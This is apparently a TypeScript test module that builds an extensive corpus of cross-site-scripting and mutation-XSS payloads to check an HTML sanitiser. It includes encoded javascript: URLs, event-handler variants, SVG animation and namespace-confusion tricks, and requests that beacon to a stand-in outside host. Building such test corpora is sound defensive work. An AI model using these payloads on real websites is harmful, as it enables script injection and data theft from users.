import { hostileHtml, strangeHost } from '#src/testing/hostile-html.ts';

// What every test run tries (src/testing/hostile-html.ts), and thousands of further variants, from what is publicly known to have worked once.

const run = 'parent.ran=top.ran=ran=1';
const stranger = `https://${strangeHost}`;
const dataPage = `data:text/html,<script>${run}</script>`;
const img = `<img src=x onerror=${run}>`;

const words = (text: string): readonly string[] => text.split(' ');
const pairs = <A, B>(first: readonly A[], second: readonly B[]): (readonly [A, B])[] =>
  first.flatMap((a) => second.map((b) => [a, b] as const));

const quoted = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const hex = (text: string, digits = 0): string =>
  Array.from(text, (letter) => `&#x${letter.codePointAt(0)?.toString(16).padStart(digits, '0')};`).join('');
const decimal = (text: string, end = ';'): string => Array.from(text, (letter) => `&#${letter.codePointAt(0)}${end}`).join('');

/** Every blank and control character, at each place of a scheme where some browser once ignored it. */
function* schemes(): Generator<string> {
  const blanks = [0x7f, 0x85, 0xa0, 0xad, 0x1680, 0x180e, 0x2000, 0x200b, 0x200d, 0x2028, 0x2029, 0x3000, 0xfeff];
  for (const [code, scheme] of pairs([...Array.from({ length: 33 }, (_, code) => code), ...blanks], words('javascript vbscript data'))) {
    const blank = String.fromCodePoint(code);
    const rest = scheme === 'data' ? dataPage.slice('data:'.length) : run;
    yield `${blank}${scheme}:${rest}`;
    yield `${scheme.slice(0, 4)}${blank}${scheme.slice(4)}:${rest}`;
    yield `${scheme}${blank}:${rest}`;
    yield `${scheme}:${blank}${rest}`;
  }
}

/** URLs that must not become links. */
export const hostileUrls: readonly string[] = [...new Set(schemes())].map((url) => url.toWellFormed());

function* urls(): Generator<string> {
  for (const url of hostileUrls) {
    yield `<a href="${quoted(url)}">x</a>`;
    yield `<svg><a xlink:href="${quoted(url)}"><text y=9>x</text></a></svg>`;
  }
  const plain = `javascript:${run}`;
  const encodings = [hex(plain), hex(plain, 7), decimal(plain), decimal(plain, ''), decimal(plain).replaceAll('&#', '&#0000')];
  for (const [encoded, holder] of pairs(encodings, words('a.href iframe.src form.action button.formaction object.data embed.src'))) {
    const [tag, attribute] = holder.split('.');
    yield `<${tag} ${attribute}="${encoded}">x</${tag}>`;
  }
}

/** What stands between the parts of a tag, and around a value. */
function* separators(): Generator<string> {
  const gaps = [' ', '/', '\t', '\n', '\f', '\r', '\r\n', ' / ', '//', '\0', '\v', ' x ', ' x=', ' x="" ', " x='>' ", ' x=">" '];
  gaps.push('/x/', ' "', " '", ' `', ' <');
  const values = ['$', '"$"', "'$'", '`$`', ' = $', '="$', "='$"];
  const tags = ['img src=x', 'svg', 'body', 'video src=x', 'input autofocus', 'details open', 'xss tabindex=1'];
  const events: Partial<Record<string, string>> = { img: 'error', video: 'error', input: 'focus', details: 'toggle', xss: 'focus' };
  for (const [tag, [gap, value]] of pairs(tags, pairs(gaps, values))) {
    const written = /^ ?=/.test(value) ? value : `=${value}`;
    yield `<${tag.replaceAll(' ', gap)}${gap}on${events[tag.split(' ')[0] ?? ''] ?? 'load'}${written.replace('$', run)}>x`;
  }
}

const codes = [
  ...[run, 'eval("ran=1")', 'window["ra"+"n"]=1', 'setTimeout("ran=1")', 'Function("ran=1")()', 'alert(1)', 'print()'],
  ...['[].constructor.constructor("ran=1")()', '(0,eval)(atob("cmFuPTE="))', 'import("data:text/javascript,ran=1")'],
  ...['location="javascript:ran=1"', 'open("javascript:opener.ran=1")', `fetch("${stranger}/x")`, `new Image().src="${stranger}/x"`],
  ...[`navigator.sendBeacon("${stranger}/x")`, `new WebSocket("wss://${strangeHost}/x")`, `new EventSource("${stranger}/x")`],
  ...['document.body.innerHTML="<img src=x onerror=ran=1>"', 'document.write("<script>ran=1</script>")'],
  ...['new Worker("data:,postMessage(1)")', 'navigator.serviceWorker.register("data:text/javascript,")'],
];

/** Scripts that name their functions in other ways, in other encodings. */
function* spellings(): Generator<string> {
  for (const code of codes) {
    yield `<script>${code}</script>`;
    for (const encoded of [quoted(code), hex(code), decimal(code)]) {
      yield `<img src=x onerror="${encoded}">`;
      yield `<svg onload="${encoded}">`;
      yield `<a href="javascript:${encoded}">x</a>`;
      yield `<iframe srcdoc="${quoted(`<img src=x onerror="${encoded}">`)}">`;
      yield `<svg><script>${encoded}</script></svg>`;
    }
  }
}

/** Elements of SVG that change others. */
function* animations(): Generator<string> {
  const changers = words('animate set animateTransform animateMotion discard');
  const targets = words('href xlink:href onclick style src action formaction to values begin');
  for (const [[changer, target], value] of pairs(pairs(changers, targets), [`javascript:${run}`, dataPage, `${stranger}/x`])) {
    yield `<svg><a><${changer} attributeName="${target}" from="x" to="${quoted(value)}" begin="0s" dur="1s" fill="freeze"/><text y="9">x</text></a></svg>`;
    yield `<svg><a id=x href=#><${changer} href=#x attributeName=${target} values="${quoted(value)};x" keyTimes="0;1" dur=1s></${changer}></a></svg>`;
  }
  const handlers = words('onbegin onend onrepeat onload onunload onactivate onfocusin');
  const tags = ['animate', 'set', 'animateTransform', 'svg', 'g', 'use', 'image href=x', 'foreignObject', 'text', 'style'];
  for (const [handler, tag] of pairs(handlers, tags)) yield `<svg><${tag} ${handler}=${run} attributeName=x dur=1s></svg>`;
}

/** Trees whose serialised form is parsed to another tree. */
function* namespaces(): Generator<string> {
  const roots = ['svg', 'math', 'svg><foreignObject', 'svg><desc', 'svg><title', 'math><mtext', 'math><mi'];
  roots.push('math><annotation-xml encoding=text/html', 'math><annotation-xml encoding=application/xhtml+xml');
  const middles = words('p table table><tr form select template mglyph malignmark b a li dd option svg math').map((tag) => `<${tag}>`);
  middles.push('', '<font color=x>');
  for (const [[root, middle], raw] of pairs(pairs(roots, middles), words('style title textarea noscript xmp'))) {
    yield `<${root}>${middle}<${raw}><a title="</${raw}>${img}">`;
    yield `<${root}>${middle}<${raw}><![CDATA[</${raw}>${img}]]>`;
  }
}

/** What sends requests or navigates without a script. */
function* requests(): Generator<string> {
  const rels = words(
    'prefetch preload preconnect dns-prefetch prerender modulepreload stylesheet icon manifest import next search pingback',
  );
  const kinds = ['', ...words('script image style fetch document').map((as) => ` as=${as}`)];
  for (const [rel, as] of pairs([...rels, 'alternate stylesheet'], kinds))
    yield `<link rel="${rel}"${as} href="${stranger}/x" crossorigin>`;
  const waits = ['0', '0.1', '00000', '-1', ' 0 ', '0,', '0;', "0;url='", '0;\turl=', '0; URL ='];
  for (const [wait, to] of pairs(waits, [`${stranger}/x`, `javascript:${run}`, dataPage]))
    yield `<meta http-equiv="refresh" content="${wait}${/[='].?$/.test(wait) ? '' : ';url='}${quoted(to)}">`;
  for (const policy of ['default-src *', "script-src 'unsafe-inline'", 'upgrade-insecure-requests', `report-uri ${stranger}/x`])
    yield `<meta http-equiv=Content-Security-Policy content="${policy}">`;
  const properties = words(
    'background background-image border-image list-style cursor content filter mask clip-path shape-outside --x src',
  );
  const values = [`url(${stranger}/x)`, `url("//${strangeHost}/x")`, `image-set("${stranger}/x" 1x)`, `u\\72 l(${stranger}/x)`];
  values.push(`url(${stranger}/x#y)`, `expression(${run})`, `url(javascript:${run})`, `cross-fade(url(${stranger}/x), red)`);
  for (const [property, value] of pairs(properties, values)) {
    yield `<p style="${property}:${quoted(value)}">x</p>`;
    yield `<style>*{${property}:${value}}</style>`;
  }
  for (const at of words('@import @namespace @font-face{src: @document @charset')) yield `<style>${at} url(${stranger}/x);</style>`;
  const tags = words(
    'img source video audio track embed iframe frame object image use feImage script body table td a area form button q blockquote ins del html menuitem portal',
  );
  const attributes = words(
    'src href xlink:href data srcset imagesrcset poster background action formaction ping cite longdesc lowsrc dynsrc manifest profile usemap icon classid codebase archive attributionsrc',
  );
  for (const [tag, attribute] of pairs([...tags, 'input type=image', 'link rel=stylesheet'], attributes))
    yield `<${tag} ${attribute}="${stranger}/x">`;
}

/** All distinct payloads. */
export const payloads: readonly string[] = [
  ...new Set([
    ...hostileHtml.map(({ html }) => html),
    ...[urls, separators, spellings, animations, namespaces, requests].flatMap((family) => [...family()]),
  ]),
].map((html) => html.toWellFormed());

/** Payloads that leave the page where it is, to see that the traps spring where nothing protects. */
export const unprotectedPayloads: readonly string[] = hostileHtml
  .filter(({ family }) => family === 'handler in a context' || family === 'style')
  .map(({ html }) => html.toWellFormed());
